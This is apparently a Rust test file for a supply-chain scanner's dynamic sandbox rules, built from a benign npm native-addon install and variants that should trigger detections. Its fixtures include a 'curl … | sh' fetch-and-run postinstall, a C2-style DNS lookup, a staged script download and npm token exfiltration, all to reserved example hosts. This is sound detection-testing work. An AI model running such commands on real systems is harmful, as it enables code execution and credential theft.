//! One constructed sandbox record that triggers each dynamic rule and one that must not
//! (a realistic benign install: npm's own `sh -c`, node-gyp with make and a compiler, a
//! registry-only network trace, writes to ~/.npm/_cacache and node_modules), with a
//! snapshot of what the rule reports. Malicious shapes use reserved names (`*.example`,
//! `*.invalid`) and documentation addresses.

use dsca_model::dynamic::{
    Connection, DnsQuery, DroppedEvents, DynamicAnalysis, Exec, Exfiltration, FileEvent, FileOp,
    HoneytokenRead, HttpRequest, PhaseResult, PhaseStatus, Process, SandboxInfo,
};
use dsca_model::{Finding, Severity};
use dsca_rules::{analyse_dynamic, catalogue, rule_by_id};
use insta::assert_yaml_snapshot;
const HOME: &str = "/home/user";
const PROJECT: &str = "/home/user/project";
const RESOLVER: &str = "10.0.2.3";
const PROXY: &str = "10.0.2.2";

fn exec(time_ms: u64, argv: &[&str]) -> Exec {
    let program = argv.first().copied().unwrap_or_default();
    Exec {
        path: if program.starts_with('/') {
            program.to_string()
        } else {
            format!("/usr/bin/{program}")
        },
        argv: argv.iter().map(|a| a.to_string()).collect(),
        time_ms,
    }
}

fn process(pid: u32, ppid: Option<u32>, phase: &str, execs: Vec<Exec>) -> Process {
    Process {
        pid,
        ppid,
        phase: phase.into(),
        execs,
        cwd: Some(PROJECT.into()),
        end: Some("exited 0".into()),
        outlived: false,
    }
}

fn file(op: FileOp, path: &str, pid: u32, time_ms: u64) -> FileEvent {
    FileEvent {
        op,
        path: path.into(),
        target: None,
        error: None,
        pid,
        phase: "install".into(),
        time_ms,
    }
}

fn dns(name: &str, qtype: &str, resolver: &str, pid: u32, registry: bool) -> DnsQuery {
    DnsQuery {
        phase: String::new(),
        name: name.into(),
        qtype: qtype.into(),
        transport: "udp".into(),
        resolver: format!("{resolver}:53"),
        time_ms: 10,
        pid: Some(pid),
        registry,
        answer: if registry {
            PROXY.into()
        } else {
            "192.0.2.1".into()
        },
    }
}

fn request(method: &str, url: &str, registry: bool) -> HttpRequest {
    let host = url
        .split("://")
        .nth(1)
        .and_then(|rest| rest.split('/').next())
        .unwrap_or_default();
    HttpRequest {
        phase: String::new(),
        url: url.into(),
        method: method.into(),
        host: host.into(),
        headers: vec![("user-agent".into(), "npm/10.8.2 node/v20.17.0".into())],
        body: String::new(),
        body_bytes: 0,
        time_ms: 50,
        destination: if registry {
            format!("{PROXY}:443")
        } else {
            "192.0.2.1:443".into()
        },
        pid: None,
        registry,
        status: 200,
        probe: false,
        fetched: None,
    }
}

fn phase(name: &str, command: &[&str]) -> PhaseResult {
    PhaseResult {
        name: name.into(),
        command: command.iter().map(|c| c.to_string()).collect(),
        status: PhaseStatus::Completed,
        exit_code: Some(0),
        duration_ms: 4_200,
        timeout_ms: 0,
        clock_offset_days: None,
        busy_ms_at_timeout: None,
        calls_began_ms: None,
        stdout_tail: "added 1 package in 4s\n".into(),
        stderr_tail: String::new(),
        error: None,
    }
}

/// A clean install of a native addon: npm reads its config, fetches from the registry
/// proxy, runs `node-gyp rebuild` through `sh -c`, which runs python3 (gyp), make and
/// the compiler; then the import phase loads the package.
fn benign() -> DynamicAnalysis {
    let npm = ["npm", "install", "--no-audit", "demo-pkg"];
    let import = ["node", "-e", "require('demo-pkg')"];
    DynamicAnalysis {
        sandbox: SandboxInfo {
            namespaces: ["user", "mount", "pid", "net", "uts", "ipc"]
                .map(String::from)
                .to_vec(),
            tracer: "strace".into(),
            hostname: "sandbox".into(),
            user: "user".into(),
            registry_hosts: vec!["registry.npmjs.org".into()],
            all_ports: true,
            home: HOME.into(),
            project_dir: PROJECT.into(),
            resolver: RESOLVER.into(),
            timezone: String::new(),
            skipped_phases: Vec::new(),
            memory: None,
            memory_limit_missing: String::new(),
        },
        domains_outside_registry: Vec::new(),
        phases: vec![phase("install", &npm), phase("import", &import)],
        dns: vec![
            dns("registry.npmjs.org", "A", RESOLVER, 1, true),
            dns("registry.npmjs.org", "AAAA", RESOLVER, 1, true),
        ],
        connections: vec![Connection {
            phase: String::new(),
            protocol: "tcp".into(),
            destination: PROXY.into(),
            port: 443,
            name: Some("registry.npmjs.org".into()),
            time_ms: 20,
            pid: Some(1),
            kind: "registry".into(),
            sni: Some("registry.npmjs.org".into()),
            first_bytes: String::new(),
            bytes_received: 4_096,
        }],
        http: vec![
            request("GET", "https://registry.npmjs.org/demo-pkg", true),
            request(
                "GET",
                "https://registry.npmjs.org/demo-pkg/-/demo-pkg-1.0.0.tgz",
                true,
            ),
        ],
        processes: vec![
            process(1, None, "install", vec![exec(0, &npm)]),
            process(
                2,
                Some(1),
                "install",
                vec![exec(100, &["sh", "-c", "node-gyp rebuild"])],
            ),
            process(
                3,
                Some(2),
                "install",
                vec![exec(
                    110,
                    &[
                        "node",
                        "/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js",
                        "rebuild",
                    ],
                )],
            ),
            process(
                4,
                Some(3),
                "install",
                vec![exec(
                    120,
                    &[
                        "python3",
                        "-c",
                        "import sys; sys.stdout.write(sys.executable)",
                    ],
                )],
            ),
            process(
                5,
                Some(3),
                "install",
                vec![exec(
                    130,
                    &[
                        "python3",
                        "/usr/lib/node_modules/npm/node_modules/node-gyp/gyp/gyp_main.py",
                        "binding.gyp",
                    ],
                )],
            ),
            process(
                6,
                Some(3),
                "install",
                vec![exec(200, &["make", "BUILDTYPE=Release", "-C", "build"])],
            ),
            process(
                7,
                Some(6),
                "install",
                vec![exec(
                    210,
                    &[
                        "g++",
                        "-o",
                        "Release/obj.target/addon/addon.o",
                        "-c",
                        "../addon.cc",
                    ],
                )],
            ),
            process(8, Some(1), "install", vec![exec(90, &["git", "--version"])]),
            process(20, None, "import", vec![exec(5_000, &import)]),
        ],
        files: vec![
            file(FileOp::Read, "/home/user/.npmrc", 1, 5),
            file(FileOp::Read, "/home/user/project/.npmrc", 1, 6),
            file(
                FileOp::Create,
                "/home/user/.npm/_cacache/index-v5/ab/cd",
                1,
                30,
            ),
            file(
                FileOp::Write,
                "/home/user/.npm/_logs/2026-12-01-debug-0.log",
                1,
                31,
            ),
            file(
                FileOp::Create,
                "/home/user/project/node_modules/demo-pkg/package.json",
                1,
                40,
            ),
            file(FileOp::Write, "/home/user/project/package-lock.json", 1, 41),
            file(
                FileOp::Create,
                "/home/user/.cache/node-gyp/20.17.0/include/node/node.h",
                3,
                115,
            ),
            file(
                FileOp::Create,
                "build/Release/obj.target/addon/addon.o",
                7,
                220,
            ),
            file(FileOp::Write, "/tmp/npm-1234/build.log", 3, 230),
            file(FileOp::Write, "/dev/null", 6, 240),
            file(
                FileOp::Read,
                "/home/user/project/node_modules/demo-pkg/index.js",
                20,
                5_010,
            ),
        ],
        honeytokens: dsca_model::dynamic::Honeytokens {
            planted: vec!["~/.npmrc (npm token)".into(), "env NPM_TOKEN".into()],
            reads: vec![HoneytokenRead {
                phase: "install".into(),
                path: "~/.npmrc".into(),
                pid: 1,
                process: "npm install --no-audit demo-pkg".into(),
                time_ms: 5,
            }],
            exfiltrations: Vec::new(),
        },
        probes: Vec::new(),
        dropped: Vec::new(),
    }
}

/// What the dynamic rules say of `run`, once every finding is checked against its
/// rule's documented severities. What only a called export did weighs low whatever the
/// rule (see `dynamic::analyse`).
fn judged(run: &DynamicAnalysis) -> dsca_rules::Analysis {
    let analysis = analyse_dynamic(run);
    for finding in &analysis.findings {
        let rule = rule_by_id(&finding.rule).expect("a catalogued rule");
        let called =
            finding.message.starts_with("when dsca called") && finding.severity == Severity::Low;
        assert!(
            called || rule.severities.contains(&finding.severity),
            "{} raised at {}, which its `severities` do not list: {}",
            rule.id,
            finding.severity,
            finding.message
        );
    }
    analysis
}

/// The findings of one rule over a run.
fn findings(run: &DynamicAnalysis, rule: &str) -> Vec<Finding> {
    judged(run)
        .findings
        .into_iter()
        .filter(|f| f.rule == rule)
        .collect()
}

/// The benign run with a postinstall script process (pid 30, a child of `sh -c`).
fn with_script(mut run: DynamicAnalysis, script: &str, children: Vec<Process>) -> DynamicAnalysis {
    run.processes.push(process(
        29,
        Some(1),
        "install",
        vec![exec(300, &["sh", "-c", script])],
    ));
    run.processes.extend(children);
    run
}

/// The benign run whose postinstall runs `node setup.js` (pid 30).
fn running_setup_js() -> DynamicAnalysis {
    with_script(
        benign(),
        "node setup.js",
        vec![process(
            30,
            Some(29),
            "install",
            vec![exec(310, &["node", "setup.js"])],
        )],
    )
}

fn in_phase(mut query: DnsQuery, phase: &str) -> DnsQuery {
    query.phase = phase.into();
    query
}

// What an exported function did when dsca called it (the execute phase)

fn with_execute_phase() -> DynamicAnalysis {
    let mut run = benign();
    let call = ["node", "execute.mjs", "demo-pkg"];
    run.phases.push(phase("execute", &call));
    run.processes
        .push(process(80, None, "execute", vec![exec(1200, &call)]));
    run
}

fn broadcast(phase: &str) -> Connection {
    Connection {
        phase: phase.into(),
        protocol: "udp".into(),
        destination: "255.255.255.255".into(),
        port: 5678,
        name: None,
        time_ms: 1250,
        pid: Some(80),
        kind: "raw".into(),
        sni: None,
        first_bytes: "petya".into(),
        bytes_received: 5,
    }
}

fn calls_began(run: &mut DynamicAnalysis, time_ms: u64) {
    if let Some(execute) = run.phases.iter_mut().find(|p| p.name == "execute") {
        execute.calls_began_ms = Some(time_ms);
    }
}

#[test]
fn a_benign_install_is_clean() {
    let analysis = judged(&benign());
    assert_eq!(analysis.findings, Vec::<Finding>::new());
    let ids: Vec<&str> = analysis.behaviours.iter().map(|b| b.id.as_str()).collect();
    assert_eq!(
        ids,
        [
            "dynamic.connections",
            "dynamic.http",
            "dynamic.programs",
            "dynamic.bait-read"
        ]
    );
}

#[test]
fn dynamic_rules_are_catalogued() {
    let ids: Vec<&str> = catalogue().iter().map(|r| r.id).collect();
    for n in 1001..=1014 {
        let id = format!("DSCA{n}");
        assert!(rule_by_id(&id).is_some(), "{id}");
    }
    // Numeric order: the four-digit ids come after every three-digit one.
    assert_eq!(ids.last(), Some(&"DSCA1014"));
}

#[test]
fn behaviours_of_a_busy_run() {
    let mut run = with_script(
        benign(),
        "curl -s http://198.51.100.7/x | sh",
        vec![process(
            30,
            Some(29),
            "install",
            vec![exec(310, &["curl", "-s", "http://198.51.100.7/x"])],
        )],
    );
    run.dns.push(dns("c2.example", "A", RESOLVER, 30, false));
    run.files
        .push(file(FileOp::Write, "/home/user/.profile", 30, 330));
    let analysis = judged(&run);
    assert_yaml_snapshot!(analysis.behaviours);
}

#[test]
fn hostile_records_do_not_panic() {
    let mut run = benign();
    let long = "a.".repeat(5_000);
    run.dns.push(dns(&long, "TYPE65", "[::1]:53", 1, false));
    run.dns.push(dns("", "", "", 1, false));
    run.connections.push(Connection {
        phase: String::new(),
        protocol: String::new(),
        destination: "[".into(),
        port: 0,
        name: None,
        time_ms: 0,
        pid: Some(u32::MAX),
        kind: String::new(),
        sni: Some("\u{202e}".into()),
        first_bytes: "\u{0}".repeat(10),
        bytes_received: u64::MAX,
    });
    run.http.push(request("", "", false));
    run.http.push(request("GET", "http://", false));
    run.http.push(request("GET", "://x/../..", false));
    // A parent loop and an empty argv.
    run.processes
        .push(process(40, Some(41), "install", vec![exec(1, &[])]));
    run.processes.push(process(
        41,
        Some(40),
        "install",
        vec![exec(1, &["sh", "-c", "$($($(`"])],
    ));
    run.files.push(file(FileOp::Rename, "", 40, 1));
    run.files.push(file(FileOp::Write, "../../../../..", 41, 1));
    run.files.push(file(FileOp::Read, "~", 41, 1));
    run.sandbox.home = "relative".into();
    let _ = judged(&run);
    run.sandbox = SandboxInfo::default();
    let _ = judged(&run);
}

#[test]
fn a_called_function_that_reaches_the_network_weighs_little() {
    // A robot vacuum library's discovery, broadcast on the LAN when called.
    let mut called = with_execute_phase();
    called.connections.push(broadcast("execute"));
    let found = findings(&called, "DSCA1002");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::Low);
    assert!(
        found[0]
            .message
            .starts_with("when dsca called its exported functions: "),
        "{}",
        found[0].message
    );
    // The same broadcast from the import is the package's own doing.
    let mut loaded = with_execute_phase();
    loaded.connections.push(broadcast("import"));
    let found = findings(&loaded, "DSCA1002");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::High);
}

#[test]
fn a_called_function_that_runs_a_downloaded_script_keeps_its_weight() {
    let mut run = with_execute_phase();
    let mut download = request("GET", "http://stage.example/setup.sh", false);
    download.phase = "execute".into();
    download.probe = true;
    run.http.push(download);
    run.processes.push(process(
        81,
        Some(80),
        "execute",
        vec![exec(1300, &["/bin/echo", "dsca-probe-00112233aabbccdd"])],
    ));
    let found = findings(&run, "DSCA1012");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::High);
}

#[test]
fn what_the_second_load_did_before_the_calls_is_the_packages_own() {
    // The execute phase loads the package again before calling anything; a payload
    // that waits for a later load acts before the marker and keeps its weight.
    let mut run = with_execute_phase();
    calls_began(&mut run, 1240);
    let mut early = broadcast("execute");
    early.time_ms = 1220;
    run.connections.push(early);
    let found = findings(&run, "DSCA1002");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::High);
    // After the marker, it is what a call did.
    let mut called = with_execute_phase();
    calls_began(&mut called, 1240);
    called.connections.push(broadcast("execute"));
    assert_eq!(findings(&called, "DSCA1002")[0].severity, Severity::Low);
}

#[test]
fn a_called_function_that_sends_bait_away_is_still_proof() {
    let mut run = with_execute_phase();
    run.honeytokens.exfiltrations.push(Exfiltration {
        phase: "execute".into(),
        token: "NPM_TOKEN".into(),
        encoding: "raw".into(),
        channel: "https".into(),
        destination: "config-sync.example".into(),
        pid: Some(80),
        time_ms: 1300,
    });
    let found = findings(&run, "DSCA1009");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::Critical);
}

#[test]
fn hosts_only_a_called_function_reached_join_the_packages_own_finding() {
    let mut run = with_execute_phase();
    run.dns.push(in_phase(
        dns("cdn.vendor.example", "A", RESOLVER, 5, false),
        "import",
    ));
    run.dns.push(in_phase(
        dns("api.vendor.example", "A", RESOLVER, 80, false),
        "execute",
    ));
    let found = findings(&run, "DSCA1001");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert!(
        found[0]
            .evidence
            .iter()
            .any(|e| e.detail.starts_with("when called: ")
                && e.detail.contains("api.vendor.example")),
        "{found:#?}"
    );
}

mod credential_exfiltration;
mod credential_file_read;
mod dns_lookup_outside_registry;
mod download_and_execute;
mod http_request_outside_registry;
mod ip_literal_connection;
mod known_indicator;
mod phase_incomplete;
mod process_outlived_phase;
mod remote_command_executed;
mod risky_command_executed;
mod spins_when_loaded;
mod time_triggered;
mod write_outside_project;
